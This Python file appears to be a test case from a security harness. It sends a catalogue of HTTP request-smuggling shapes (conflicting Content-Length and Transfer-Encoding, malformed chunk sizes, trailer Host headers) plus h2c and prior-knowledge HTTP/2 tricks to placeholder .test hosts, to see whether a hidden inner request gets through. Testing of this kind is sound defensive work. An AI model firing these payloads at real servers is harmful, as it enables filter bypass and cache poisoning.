# SPDX-License-Identifier: Apache-2.0
"""Requests that two parsers cut at different places, and HTTP/2 in clear."""
import h2

TITLE = "request smuggling (CL and TE), h2c, prior-knowledge HTTP/2"
THREAT = "37"
INNER = "GET /{0} HTTP/1.1\r\nHost: sib-{0}.test\r\n\r\n"


def attack(c):
    def post(fields, body):
        return "POST / HTTP/1.1\r\nHost: ok.test\r\n" + "".join(f + "\r\n" for f in fields) + "\r\n" + body

    shapes = {
        "CL and TE": post(["Content-Length: 200", "Transfer-Encoding: chunked"], "0\r\n\r\n" + INNER),
        "TE and CL": post(["Transfer-Encoding: chunked", "Content-Length: 5"], "0\r\n\r\n" + INNER),
        "two CL": post(["Content-Length: 0", "Content-Length: 200"], INNER),
        "CL list": post(["Content-Length: 0, 200"], INNER),
        "CL with a sign": post(["Content-Length: +0"], INNER),
        "odd TE": post(["Transfer-Encoding: xchunked"], "0\r\n\r\n" + INNER),
        "TE twice": post(["Transfer-Encoding: identity", "Transfer-Encoding: chunked"], "0\r\n\r\n" + INNER),
        "TE with a tab": post(["Transfer-Encoding:\tchunked, identity"], "0\r\n\r\n" + INNER),
        "blank before the colon": post(["Content-Length : 200"], INNER),
        "chunk size with a sign": post(["Transfer-Encoding: chunked"], "-1\r\n\r\n" + INNER),
        "chunk size too long": post(["Transfer-Encoding: chunked"], "0" * 40 + "10000000000000000\r\n\r\n" + INNER),
        "GET with a body": "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n" + INNER,
        "HTTP/0.9": "GET /{0}\r\n\r\n",
        "Host in the trailer": "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: sib-{0}.test\r\n\r\n",
    }
    for name, shape in shapes.items():
        with c.step(name) as token:
            c.send("ok.test", 80, shape.format(token).encode())
    with c.step("h2c by upgrade") as token:
        with c.dial("ok.test", 80) as s:
            c.talk(s, b"GET / HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
                   b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")
            c.talk(s, h2.PREFACE + h2.headers(3, f"sib-{token}.test", f"/{token}", "http"))
    with c.step("h2c by prior knowledge") as token:
        c.send("ok.test", 80, h2.PREFACE + h2.headers(1, f"sib-{token}.test", f"/{token}", "http"))
    with c.step("extended CONNECT") as token:
        c.send("ok.test", 80, h2.PREFACE + h2.headers(1, f"sib-{token}.test", f"/{token}", "http", protocol="websocket"))
